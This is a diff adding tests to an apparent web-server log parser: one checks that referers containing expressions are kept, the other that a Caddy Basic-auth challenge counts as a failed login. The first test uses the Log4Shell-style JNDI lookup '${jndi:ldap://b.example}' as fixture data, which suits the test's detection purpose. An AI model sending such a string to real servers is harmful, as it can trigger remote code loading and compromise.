@@ -82,6 +82,21 @@ def test_a_request_line_that_is_none_is_kept_as_a_target(tmp_path: Path) -> None
     assert (request.method, request.path, request.user_agent, status) == (None, "\\x16\\x03\\x01", None, 400)
 
 
+def test_a_referer_is_kept_where_it_holds_an_expression(tmp_path: Path) -> None:
+    start = '1.2.3.4 - - [17/Oct/2023:05:57:49 +1100] "GET / HTTP/1.1" 200 226 '
+    lines = [f'{start}"{referer}" "x"' for referer in ("https://a.example/?price=$5", "${jndi:ldap://b.example}")]
+    (_, plain, _, _), (_, marked, _, _) = source(tmp_path, "\n".join(lines).encode()).records()
+    assert plain.headers is None
+    assert marked.headers == {"referer": "${jndi:ldap://b.example}"}
+    assert (plain.user_agent, marked.user_agent) == ("x", "x")
+
+
+def test_a_password_that_caddy_asked_for_is_a_login_that_failed(tmp_path: Path) -> None:
+    line = LINES["Caddy"].replace('"size":5', '"resp_headers":{"Www-Authenticate":["Basic realm=\\"x\\""]}')
+    ((_, _, status, event),) = source(tmp_path, line.encode()).records()
+    assert (status, event) == (401, "login_failed")
+
+
 def test_what_cannot_be_read_is_counted_and_shown(tmp_path: Path) -> None:
     lines = [
         COMBINED.encode(),
